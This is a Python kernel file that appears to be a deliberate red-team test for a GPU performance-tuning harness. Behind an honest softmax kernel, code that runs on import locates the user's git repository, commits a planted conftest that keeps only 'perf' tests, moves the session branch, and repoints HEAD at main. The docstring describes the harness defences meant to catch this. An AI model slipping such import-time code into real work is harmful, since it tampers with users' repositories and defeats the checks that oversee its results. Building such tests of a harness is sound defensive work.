"""RED-TEAM ATTACK on the bundled softmax (benchmarks/redteam_gpu.py copies it over the kernel file).

(i) The session branch moved from inside the test run. The kernel is the honest softmax; at
import the module looks for the user's repository (walking up from the working directory, from
where its stdout and stderr point, ``/proc/self/fd/1`` and ``2``, and from every path in the
environment; a repository is a folder with ``.git`` and a cutile-perf session,
``sandbox/session.yaml``), then with git's plumbing commits the branch's tree plus
``tests/extra_conftest.py``, runs ``git update-ref refs/heads/<session branch> <that commit>``, and
points HEAD at ``main`` (``git symbolic-ref HEAD refs/heads/main``). A harness that trusts the
branch afterwards would keep, or reset, the wrong commit.
Defence: the children's sandbox hides the user's repository (an empty tmpfs over it, ``.git``
included; the checkout the tests run in is written blob by blob and has no ``.git``), so nothing
is found; unboxed, the iteration's check that HEAD, the session branch and the fenced index
entries are still the candidate it committed (crash ``tampered``), and the revert re-points HEAD at
the session branch before resetting, so ``main`` is never reset.
Only acts where CUDA is available, so the CPU dry run's import touches no repository. Writes what
it found and did to stderr at exit (after pytest's capture ends), lines starting
"ATTACK i_branch_swap".
"""
from __future__ import annotations

import atexit
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import cuda.tile as ct
import torch

from tilesuite.ops.cutile._host import as_rows, current_stream

TILE_N = 1024  # columns per loop step


@ct.kernel
def softmax_kernel(x, out, TILE_N: ct.Constant[int]):
    row = ct.bid(0)
    num_col_tiles = ct.num_tiles(x, axis=1, shape=(1, TILE_N))
    run_max = ct.full((1, 1), float("-inf"), dtype=ct.float32)
    run_sum = ct.full((1, 1), 0.0, dtype=ct.float32)
    for j in range(num_col_tiles):
        t = ct.astype(ct.load(x, (row, j), (1, TILE_N), padding_mode=ct.PaddingMode.NEG_INF), ct.float32)
        new_max = ct.maximum(run_max, ct.max(t, axis=1, keepdims=True))
        run_sum = run_sum * ct.exp(run_max - new_max) + ct.sum(ct.exp(t - new_max), axis=1, keepdims=True)
        run_max = new_max
    for j in range(num_col_tiles):
        t = ct.astype(ct.load(x, (row, j), (1, TILE_N), padding_mode=ct.PaddingMode.NEG_INF), ct.float32)
        ct.store(out, (row, j), ct.astype(ct.exp(t - run_max) / run_sum, out.dtype))


def softmax(x: torch.Tensor) -> torch.Tensor:
    """Softmax of ``x`` over its last dimension, same shape and dtype as ``x``."""
    rows = as_rows(x)
    out = torch.empty_like(rows)
    ct.launch(current_stream(), (rows.shape[0],), softmax_kernel, (rows, out, TILE_N))
    return out.view(x.shape)


def aot_signatures():
    """(kernel, [KernelSignature]) pairs for compiling without a GPU (tests/test_kernels_compile.py)."""
    from tilesuite.aot import contiguous, signature

    arr = contiguous(ct.float16, 2)
    return [(softmax_kernel, [signature([arr, arr, TILE_N])])]


EXTRA_FILE = "tests/extra_conftest.py"
EXTRA_TEXT = ("# planted by red-team attack (i): a file the session never committed\n"
              "def pytest_collection_modifyitems(config, items):\n"
              "    items[:] = [item for item in items if 'perf' in item.nodeid]\n")
_NOTES: list[str] = []


def _say() -> None:
    for note in _NOTES:
        print(f"ATTACK i_branch_swap pid={os.getpid()}: {note}", file=sys.stderr, flush=True)


def _starts() -> list[str]:
    """Where to look for the repository: cwd, where stdout/stderr point, every path in the environment."""
    starts = []
    try:
        starts.append(os.getcwd())
    except OSError:
        pass
    for fd in ("1", "2"):
        link = os.path.join(os.sep, "proc", "self", "fd", fd)
        try:
            starts.append(os.readlink(link))
        except OSError as exc:
            _NOTES.append(f"fd {fd}: {exc.strerror or exc}")
    for value in os.environ.values():
        starts.extend(part for part in value.split(os.pathsep) if part.startswith(os.sep))
    return starts


def _find_repos() -> list[Path]:
    found: list[Path] = []
    for start in _starts():
        folder = Path(start)
        for candidate in (folder, *folder.parents):
            try:
                if (candidate / ".git").is_dir() and (candidate / "sandbox" / "session.yaml").is_file():
                    if candidate not in found:
                        found.append(candidate)
                    break
            except OSError:
                break
    return found


def _git(repo: Path, *args: str, env: dict | None = None, stdin: str | None = None) -> str:
    done = subprocess.run(["git", "-C", str(repo), *args], input=stdin, capture_output=True, text=True,
                          env=env, timeout=30, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"git {' '.join(args[:2])}: {(done.stderr or done.stdout).strip()[:200]}")
    return done.stdout.strip()


def _session_branch(repo: Path) -> str:
    try:
        for line in (repo / "sandbox" / "session.yaml").read_text().splitlines():
            if line.startswith("branch:"):
                return line.split(":", 1)[1].strip().strip("'\"")
    except OSError:
        pass
    return _git(repo, "symbolic-ref", "--short", "HEAD")


def _swap(repo: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(GIT_AUTHOR_NAME="redteam", GIT_AUTHOR_EMAIL="redteam@localhost", GIT_COMMITTER_NAME="redteam",
               GIT_COMMITTER_EMAIL="redteam@localhost")
    branch = _session_branch(repo)
    try:
        tip = _git(repo, "rev-parse", f"refs/heads/{branch}", env=env)
        with tempfile.TemporaryDirectory() as scratch:
            index_env = dict(env, GIT_INDEX_FILE=os.path.join(scratch, "index"))
            _git(repo, "read-tree", tip, env=index_env)
            blob = _git(repo, "hash-object", "-w", "--stdin", env=env, stdin=EXTRA_TEXT)
            _git(repo, "update-index", "--add", "--cacheinfo", f"100644,{blob},{EXTRA_FILE}", env=index_env)
            tree = _git(repo, "write-tree", env=index_env)
        commit = _git(repo, "commit-tree", tree, "-p", tip, "-m", "tests: extra conftest", env=env)
        _git(repo, "update-ref", f"refs/heads/{branch}", commit, tip, env=env)
        _NOTES.append(f"LANDED: {repo}: update-ref refs/heads/{branch} {tip[:10]} -> {commit[:10]} "
                      f"(adds {EXTRA_FILE})")
    except Exception as exc:  # noqa: BLE001
        _NOTES.append(f"{repo}: moving {branch} failed: {exc}")
    try:
        _git(repo, "rev-parse", "--verify", "refs/heads/main", env=env)
        _git(repo, "symbolic-ref", "HEAD", "refs/heads/main", env=env)
        _NOTES.append(f"LANDED: {repo}: HEAD -> refs/heads/main")
    except Exception as exc:  # noqa: BLE001
        _NOTES.append(f"{repo}: pointing HEAD at main failed: {exc}")


def _attack() -> None:
    if not torch.cuda.is_available():  # the CPU dry run: touch no repository
        return
    atexit.register(_say)
    try:
        repos = _find_repos()
    except Exception as exc:  # noqa: BLE001
        _NOTES.append(f"search failed: {type(exc).__name__}: {exc}")
        return
    if not repos:
        _NOTES.append(f"no repository with a cutile-perf session reachable (cwd {os.getcwd()}); nothing done")
    for repo in repos:
        _swap(repo)


_attack()
